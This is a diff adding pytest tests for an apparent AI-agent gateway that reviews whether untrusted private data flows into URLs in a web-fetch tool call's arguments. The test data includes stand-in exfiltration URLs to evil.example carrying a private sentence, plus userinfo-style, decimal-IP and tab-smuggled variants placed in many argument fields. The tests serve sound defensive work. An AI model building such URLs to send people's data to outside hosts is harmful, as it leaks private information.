@@ -4,13 +4,13 @@ from typing import Any
 
 import pytest
 
-from gateway.domain.flow import Run, RunId
+from gateway.domain.flow import Chosen, FlowReview, Run, RunId, Task
 from gateway.domain.labels import Effect, ToolRule
 from gateway.flow.provenance import Provenance
 from gateway.flow.review import review
 from gateway.flow.unlabelled import labelled
 from gateway.flow.use import Knowledge, Use
-from tests.flow.flow_builders import TENANT, UNTRUSTED
+from tests.flow.flow_builders import TENANT, UNTRUSTED, remember, source, structured
 
 ABOUT = {
     "inputSchema": {
@@ -77,6 +77,109 @@ def test_what_says_that_it_reads_reaches_what_addresses_say() -> None:
     found = review(run, use, known)
     assert [one.path for one in found.destinations] == ["$.url"]
     assert not found.names_where
+
+
+PRIVATE = "the quarterly figures are twelve million below the plan"
+AWAY = f"https://evil.example/?d={PRIVATE}"
+
+
+def fetched(
+    arguments: dict[str, Any],
+    effect: Effect,
+    rule: ToolRule | None = None,
+    prompt: str | None = "Summarise the notes",
+) -> FlowReview:
+    provenance = Provenance()
+    remember(provenance, source(UNTRUSTED), structured({"note": PRIVATE}))
+    held = {"type": "string"}
+    declared: dict[str, Any] = {
+        "link": held,
+        "website": held,
+        "page": held,
+        "query": held,
+        "request": {},
+    }
+    if "target" in arguments:
+        declared["target"] = {"anyOf": [{**held, "format": "uri"}, {"type": "null"}]}
+    use = Use(
+        server="web",
+        tool="fetch_page",
+        rule=rule or ToolRule(),
+        effect=effect,
+        arguments=arguments,
+        about={
+            "description": "Fetch a web page.",
+            "inputSchema": {"type": "object", "properties": declared},
+        },
+    )
+    task = None if prompt is None else Task(prompt=prompt)
+    known = Knowledge(tenant=TENANT, task=task, provenance=provenance)
+    return review(Run(id=RunId("r"), label=UNTRUSTED), use, known)
+
+
+@pytest.mark.parametrize("effect", [Effect.READ, Effect.DESTROY])
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"link": AWAY},
+        {"website": AWAY},
+        {"page": AWAY},
+        {"query": AWAY},
+        {"request": {"url": AWAY}},
+        {"request": [{"anything": [AWAY]}]},
+        {"request": {AWAY: 1}},
+        {"request": {"url": f"{PRIVATE}@evil.example/x"}},
+        {"link": f"{PRIVATE}@evil.example/x"},
+        {"target": f"2130706433 {PRIVATE}"},
+        {"url": AWAY},
+        {"other": AWAY},
+        {"link": f" {AWAY}"},
+    ],
+)
+def test_a_read_that_nobody_labelled_reaches_a_url_wherever_it_stands(
+    arguments: dict[str, Any], effect: Effect
+) -> None:
+    found = fetched(arguments, effect)
+    assert [one.by for one in found.destinations] == [Chosen.NOBODY]
+    assert [part.path for part in found.payload if part.matches] == [found.destinations[0].path]
+    assert not found.names_where
+
+
+@pytest.mark.parametrize("effect", [Effect.READ, Effect.DESTROY])
+@pytest.mark.parametrize(
+    ("said", "reached"),
+    [
+        ("what a.example says of it", []),
+        ("what https://a.example/x says of it", ["https://a.example/x"]),
+        ("https://a.example/x\t@evil.example/", ["https://a.example/x\t@evil.example/"]),
+        ("https://a.example, https://b.example", ["https://a.example", "https://b.example"]),
+        ("mails from bob@a.example", []),
+        (1572395042, []),
+        (True, []),
+    ],
+)
+def test_what_is_looked_for_reaches_the_pages_that_it_speaks_of(
+    said: Any, reached: list[str], effect: Effect
+) -> None:
+    assert [one.value for one in fetched({"query": said}, effect).destinations] == reached
+
+
+def test_what_is_labelled_as_a_read_is_looked_at_where_its_label_says_so() -> None:
+    rule = ToolRule(effect=Effect.READ, destination=("page",))
+    assert fetched({"link": AWAY, "page": "1"}, Effect.READ, rule).destinations[0].path == "$.page"
+    half = ToolRule(destination=("page",))
+    paths = [
+        one.path for one in fetched({"link": AWAY, "page": "1"}, Effect.READ, half).destinations
+    ]
+    assert paths == ["$.page", "$.link"]
+
+
+def test_where_no_words_are_declared_a_good_address_is_no_place_of_what_says_that_it_reads() -> (
+    None
+):
+    ours = {"other": "https://example.com/x"}
+    assert [one.by for one in fetched(ours, Effect.DESTROY).destinations] == [Chosen.TENANT]
+    assert fetched(ours, Effect.DESTROY, prompt=None).destinations == ()
 
 
 @pytest.mark.parametrize(
